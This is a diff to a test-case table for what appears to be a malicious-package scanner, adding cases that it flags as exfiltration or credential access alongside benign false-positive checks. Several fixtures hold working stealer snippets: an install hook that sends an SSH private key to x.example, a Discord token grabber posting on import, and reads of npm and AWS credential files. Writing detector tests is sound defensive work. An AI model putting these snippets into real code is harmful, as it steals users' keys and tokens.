@@ -70,6 +70,22 @@ CASES = [
     ({"demo/steal.py": "import requests\ndef go():\n    k = open('/home/u/.ssh/id_rsa').read()\n"
                        "    requests.post('https://x.example', data=k)\n"},
      "code.exfiltration", M, "ssh key sent from a function"),
+    (setup_py("import os, urllib.request\n\ndef _sync():\n"
+              "    key = open(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa'), 'rb').read()\n"
+              "    urllib.request.urlopen('https://x.example/k', data=key)\n\n_sync()\n"),
+     "code.exfiltration", C, "an SSH key joined from pieces and sent by urlopen(data=) at install"),
+    ({"demo/__init__.py": "import os, json, urllib.request\n\ndef grab():\n"
+                          "    root = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb')\n"
+                          "    tokens = [open(os.path.join(root, n)).read() for n in os.listdir(root)]\n"
+                          "    req = urllib.request.Request('https://x.example/h', json.dumps(tokens).encode())\n"
+                          "    urllib.request.urlopen(req)\n\ngrab()\n"},
+     "code.exfiltration", H, "Discord's token store joined from pieces and posted on import"),
+    ({"demo/sync.py": "import os, json, urllib.request\n\ndef grab():\n"
+                      "    root = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb')\n"
+                      "    tokens = [open(os.path.join(root, n)).read() for n in os.listdir(root)]\n"
+                      "    req = urllib.request.Request('https://x.example/h', json.dumps(tokens).encode())\n"
+                      "    urllib.request.urlopen(req)\n"},
+     "code.exfiltration", M, "the same grabber in a function: the tokens flow through Request"),
     ({"demo/client.py": "import os, requests\ndef call():\n    token = os.environ['API_TOKEN']\n"
                         "    return requests.get('https://api.example', headers={'t': token})\n"},
      "code.exfiltration", None, "benign: an SDK sends its own API token from the environment"),
@@ -148,6 +164,20 @@ CASES = [
     # ---- credential access without a send
     (setup_py("data = open('/etc/passwd').read()\n"), "code.credential-access", M,
      "reads /etc/passwd at install time"),
+    (setup_py("import os\nrc = open(os.path.expanduser('~/.npmrc')).read()\n"),
+     "code.credential-access", M, "an npm token file opened at install time"),
+    (setup_py("ACTIVATE = '''\nnpm_config_cache=\"$NODE_VIRTUAL_ENV/.npm\"\n"
+              "npm_config_userconfig=\"$NODE_VIRTUAL_ENV/.npmrc\"\nexport npm_config_userconfig\n'''\n"
+              "open('bin/activate', 'w').write(ACTIVATE)\n"),
+     "code.credential-access", None, "FP regression: a shell template that sets up an .npmrc path "
+     "reads nothing (nodeenv)"),
+    (setup_py("import os\nkey = open(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')).read()\n"),
+     "code.credential-access", M, "an SSH key path split across os.path.join pieces"),
+    (setup_py("from pathlib import Path\ncreds = (Path.home() / '.aws' / 'credentials').read_text()\n"),
+     "code.credential-access", M, "a cloud credentials path joined with pathlib's /"),
+    (setup_py("import os\nhosts = os.path.join(os.path.expanduser('~'), '.ssh')\n"
+              "cfg = os.path.join(os.path.expanduser('~'), '.config', 'demo.toml')\n"),
+     "code.credential-access", None, "benign: the .ssh directory itself and an app's own config"),
     # ---- obfuscation
     (setup_py("import builtins\nf = getattr(builtins, 'ex' + 'ec')\n"), "code.obfuscation", M,
      "exec fetched by a built-up name"),
